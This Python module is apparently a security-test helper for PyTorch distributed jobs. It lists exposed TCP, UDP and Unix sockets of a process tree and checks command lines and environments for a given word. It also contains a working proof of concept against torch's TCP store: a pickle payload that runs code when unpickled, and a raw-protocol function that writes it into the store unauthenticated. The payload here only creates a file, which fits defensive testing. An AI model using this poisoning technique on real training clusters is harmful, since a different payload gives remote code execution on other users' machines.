"""Sockets of a process tree, and another user's attack on torch's TCP store."""

from __future__ import annotations

import base64
import os
import pickle
import socket
import struct
from contextlib import suppress
from dataclasses import dataclass
from ipaddress import IPv6Address, ip_address
from pathlib import Path

import psutil

_MAGIC = 0x3C85F7CE
_VALIDATE, _SET = 0, 1


@dataclass(frozen=True, order=True)
class Listener:
    """A TCP or UDP socket that accepts input."""

    address: str
    port: int
    of: str

    @property
    def is_loopback(self) -> bool:
        """True if no other machine can reach it."""
        address = ip_address(self.address)
        if isinstance(address, IPv6Address) and address.ipv4_mapped:
            address = address.ipv4_mapped
        return address.is_loopback


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self.file,)

    @property
    def state(self) -> bytes:
        """The payload in the form of a c10d rendezvous' state."""
        return base64.b64encode(pickle.dumps(self))


def tree(root: int | None = None) -> list[psutil.Process]:
    """Return a process, this one by default, and its descendants."""
    parent = psutil.Process(root)
    return [parent, *parent.children(recursive=True)]


def listeners(processes: list[psutil.Process]) -> set[Listener]:
    """Return the sockets to which other processes or machines can send."""
    found = set()
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            for link in process.net_connections(kind="inet"):
                is_open = link.status == psutil.CONN_LISTEN or link.type == socket.SOCK_DGRAM
                if link.laddr and not link.raddr and is_open:
                    found.add(Listener(link.laddr.ip, link.laddr.port, " ".join(process.cmdline())[-80:]))
    return found


def open_unix_sockets(processes: list[psutil.Process]) -> set[str]:
    """Return the names of Unix sockets in folders that other users can enter."""
    found = set()
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            names = {str(link.laddr) for link in process.net_connections(kind="unix") if link.laddr}
            found |= {name for name in names if not _is_private(Path(name).parent)}
    return found


def showing(processes: list[psutil.Process], word: str) -> dict[str, list[str]]:
    """Return the modules of processes with a word in their command line or environment."""
    found: dict[str, list[str]] = {"command lines": [], "environments": []}
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            command = process.cmdline()
            if word in " ".join(command):
                found["command lines"].append(command[2])
            if any(word in value for value in process.environ().values()):
                found["environments"].append(command[2])
    return found


def poison(host: str, port: int, key: str, value: bytes) -> None:
    """Set a key of a TCP store as any stranger can; harmless if something else listens."""
    name = f"/{key}".encode()
    with suppress(OSError), socket.create_connection((host, port), timeout=5) as link:
        link.sendall(struct.pack("<BI", _VALIDATE, _MAGIC))
        link.sendall(struct.pack("<BQ", _SET, len(name)) + name + struct.pack("<Q", len(value)) + value)
        link.settimeout(0.2)
        link.recv(1)


def _is_private(folder: Path) -> bool:
    state = folder.stat() if folder.is_absolute() and folder.is_dir() else None
    return state is not None and state.st_uid == os.getuid() and not state.st_mode & 0o077
